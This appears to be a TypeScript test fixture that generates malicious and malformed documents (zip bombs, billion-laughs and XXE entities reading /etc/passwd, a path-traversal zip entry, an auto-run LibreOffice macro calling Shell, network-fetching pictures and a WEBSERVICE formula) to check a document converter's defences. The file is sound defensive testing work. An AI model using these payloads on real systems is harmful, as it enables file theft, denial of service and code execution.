/**
 * Documents that a stranger or an accident sends, each with the code that a person is shown; null: it is shown, without what
 * it tries. They are made when they are asked for: some are large.
 */
import { randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import type { ErrorCode } from '#contract/error-codes.ts';
import { compoundFileOf } from './compound-writer.ts';
import { hangulDocument } from './hangul-documents.ts';
import { escapeXml, openDocument, pdfDocument, spreadsheet, wordDocument } from './small-documents.ts';

export type BadDocument = { fileName: string; make: () => Buffer; code: ErrorCode | null };

/** @param listener where a document tries to reach, `http://…` */
export const badDocuments = (listener: string): Record<string, BadDocument> => ({
  empty: { fileName: 'empty.pptx', make: () => Buffer.alloc(0), code: 'document-empty' },
  'cut short': { fileName: 'cut.docx', make: () => wordDocument().subarray(0, 700), code: 'document-broken' },
  'cut-short PDF': { fileName: 'cut.pdf', make: () => Buffer.from('%PDF-1.7\n1 0 obj\n<<'), code: 'document-broken' },
  'random bytes': { fileName: 'noise.xlsx', make: () => randomBytes(5_000), code: 'document-type-unsupported' },
  'HTML named .doc': {
    fileName: 'letter.doc',
    make: () =>
      Buffer.from(`<html><link rel="stylesheet" href="${listener}/a.css"><img src="${listener}/a.png"></html>`),
    code: 'document-type-unsupported',
  },
  'flat ODF named .odt': {
    fileName: 'report.odt',
    make: () => Buffer.from(flatOpenDocument(`${listener}/flat.png`)),
    code: 'document-type-unsupported',
  },
  'ODF with a picture on the network': {
    fileName: 'report.odt',
    make: () => openDocument({ body: `<text:p>${linkedFrame(`${listener}/zip.png`)}</text:p>` }),
    code: null,
  },
  'a script named .pdf': {
    fileName: 'run.pdf',
    make: () => Buffer.from('#!/bin/sh\nid\n'),
    code: 'document-type-unsupported',
  },
  'PDF with a password': {
    fileName: 'secret.pdf',
    make: () => encryptedPdf(),
    code: 'document-encrypted',
  },
  'OOXML with a password': {
    fileName: 'secret.docx',
    make: () => compoundFileOf({ EncryptionInfo: Buffer.alloc(5_000, 1), EncryptedPackage: Buffer.alloc(5_000, 2) }),
    code: 'document-encrypted',
  },
  'HWP with a password': {
    fileName: '비밀.hwp',
    make: () => hangulDocument(['비밀'], { password: 'secret' }),
    code: 'document-encrypted',
  },
  'HWPX with a password': {
    fileName: '비밀.hwpx',
    make: () => hangulDocument(['비밀'], { format: 'hwpx', password: 'secret' }),
    code: 'document-encrypted',
  },
  'zip bomb': {
    fileName: 'bomb.docx',
    make: () => wordDocument({ more: [{ name: 'word/media/bomb.xml', content: Buffer.alloc(420_000_000) }] }),
    code: 'document-too-large',
  },
  'zip bomb whose directory lies': {
    fileName: 'bomb.docx',
    make: () => wordDocument({ paragraphs: ['x'.repeat(150_000_000)], claimedBytes: 1_000 }),
    code: 'document-broken',
  },
  'too many entries': {
    fileName: 'entries.xlsx',
    make: () =>
      spreadsheet(
        [['1']],
        Array.from({ length: 2_100 }, (_, at) => ({ name: `xl/x${at}`, content: '' })),
      ),
    code: 'document-too-large',
  },
  'entry that leads outside': {
    fileName: 'outside.docx',
    make: () => wordDocument({ more: [{ name: '../../../../tmp/outside', content: 'x' }] }),
    code: 'document-broken',
  },
  '2,000 pages': {
    fileName: 'long.pdf',
    make: () => pdfDocument(Array.from({ length: 2_000 }, (_, at) => `Page ${at + 1}`)),
    code: 'document-too-long',
  },
  'PDF whose pages are their own parents': {
    fileName: 'loop.pdf',
    make: () => Buffer.from(pdfDocument().toString('latin1').replace('/Kids[4 0 R]', '/Kids[2 0 R]'), 'latin1'),
    code: 'document-broken',
  },
  'PDF page of a kilometre': {
    fileName: 'wide.pdf',
    make: () => Buffer.from(pdfDocument().toString('latin1').replace('0 0 595 842', '0 0 2834645 842'), 'latin1'),
    code: null,
  },
  'XML entities that grow': {
    fileName: 'laughs.docx',
    make: () => wordDocument({ prologue: growingEntities, rawRun: '<w:r><w:t>&e9;</w:t></w:r>' }),
    code: 'document-broken',
  },
  'XML entity of a file': {
    fileName: 'xxe.docx',
    make: () =>
      wordDocument({
        prologue: `<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY n SYSTEM "${listener}/xxe">]>`,
        rawRun: '<w:r><w:t>&e;&n;</w:t></w:r>',
      }),
    code: 'document-broken',
  },
  // without a desktop, Debian's LibreOffice ends itself over the window of a comment
  'comment beside the text': {
    fileName: 'comment.odt',
    make: () =>
      openDocument({ body: '<text:p>Text<office:annotation><text:p>Why?</text:p></office:annotation></text:p>' }),
    code: null,
  },
  'picture on the network': {
    fileName: 'link.docx',
    make: () => wordDocument({ linkedPicture: `${listener}/linked.png` }),
    code: null,
  },
  'picture of this machine': {
    fileName: 'file.docx',
    make: () => wordDocument({ linkedPicture: 'file:///usr/share/pixmaps/debian-logo.png' }),
    code: null,
  },
  'field that includes a picture of the network': {
    fileName: 'field.docx',
    make: () =>
      wordDocument({ rawRun: `<w:r><w:instrText>INCLUDEPICTURE "${listener}/field.png"</w:instrText></w:r>` }),
    code: null,
  },
  'function that asks the network': {
    fileName: 'service.xlsx',
    make: () => spreadsheet([[`=_xlfn.WEBSERVICE("${listener}/service")`]]),
    code: null,
  },
  'macro that runs on opening': {
    fileName: 'macro.docm',
    make: () =>
      wordDocument({
        mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
        more: [{ name: 'word/vbaProject.bin', content: compoundFileOf({ PROJECT: Buffer.alloc(5_000, 32) }) }],
      }),
    code: null,
  },
  'Basic that runs on opening': {
    fileName: 'macro.odt',
    make: () => openDocumentWithMacro(listener),
    code: null,
  },
  '60,000 pixels a side': { fileName: 'huge.png', make: () => pngClaiming(60_000, 60_000), code: 'picture-too-large' },
  'picture with a false header': {
    fileName: 'false.png',
    make: () => pngClaiming(4_000, 4_000),
    code: 'document-broken',
  },
  'SVG named .png': {
    fileName: 'drawing.png',
    make: () =>
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${listener}/a.png"/></svg>`,
      ),
    code: 'document-type-unsupported',
  },
});

const linkedFrame = (target: string): string =>
  `<draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="${target}" xlink:type="simple" xlink:show="embed"/></draw:frame>`;

const flatOpenDocument = (target: string): string =>
  `<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text><text:p>${linkedFrame(target)}</text:p></office:text></office:body></office:document>`;

const growingEntities = `<!DOCTYPE d [<!ENTITY e0 "lol">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
).join('')}]>`;

/** The handler of an encryption with a random key (ISO 32000-1, 7.6): no password opens it. */
function encryptedPdf(): Buffer {
  const random = () => `<${randomBytes(32).toString('hex')}>`;
  const encryption = `/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -3904/O ${random()}/U ${random()}>>`;
  const id = `/ID[<${randomBytes(16).toString('hex')}><${randomBytes(16).toString('hex')}>]`;
  return pdfDocument(['Secret'], encryption + id);
}

/** A macro of the document's own that LibreOffice would run when the document is loaded. */
function openDocumentWithMacro(listener: string): Buffer {
  const library = 'xmlns:library="http://openoffice.org/2000/library"';
  const basic = `Sub Main\nShell("/usr/bin/python3", 0, "-c import_urllib")\nCreateUnoService("com.sun.star.ucb.SimpleFileAccess").openFileRead("${listener}/macro")\nEnd Sub`;
  return openDocument({
    prelude:
      '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>',
    more: [
      {
        name: 'Basic/script-lc.xml',
        content: `<?xml version="1.0"?><library:libraries ${library} xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
      },
      {
        name: 'Basic/Standard/script-lb.xml',
        content: `<?xml version="1.0"?><library:library ${library} library:name="Standard" library:readonly="false"><library:element library:name="Module1"/></library:library>`,
      },
      {
        name: 'Basic/Standard/Module1.xml',
        content: `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${escapeXml(basic)}</script:module>`,
      },
    ],
  });
}

/** Its header claims a size, and its content is one row. */
function pngClaiming(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // eight bits of grey
  header.writeUInt8(8, 8);
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  const row = deflateSync(Buffer.alloc(width + 1));
  return Buffer.concat([signature, pngChunk('IHDR', header), pngChunk('IDAT', row), pngChunk('IEND', Buffer.alloc(0))]);
}

function pngChunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}
